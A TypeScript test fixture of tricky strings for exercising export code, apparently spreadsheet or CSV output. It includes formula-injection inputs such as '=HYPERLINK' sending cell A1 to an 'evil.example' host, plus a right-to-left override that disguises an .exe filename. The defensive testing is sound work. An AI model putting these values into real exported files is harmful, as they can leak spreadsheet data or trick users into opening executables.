/** Strings that have broken exports: separators, formulas, directions, look-alikes of other types. */
export const hurtful: readonly string[] = [
  '',
  'He said "hi", then left',
  "it's; a, b\tc | d",
  'two\nlines',
  'three\r\nWindows\r\nlines',
  '=1+1',
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+SUM(A1:A9)',
  '-2+3',
  '@x',
  '＝1+1',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  "'already quoted",
  '👩‍👩‍👧‍👦 family 🇵🇹',
  'مرحبا بالعالم',
  '\u202Egnp.exe\u202C',
  'line\u2028and paragraph\u2029separators',
  'back\\slash and </script>',
  'null',
  'true',
  '007',
  '1e5',
  ' leading and trailing ',
  '𝒜stral, e\u0301 combined, \uFEFF marked',
];

/** A string of some 20 000 characters. */
export const veryLong = 'A long story, with "quotes" and ünïcödé. '.repeat(500);
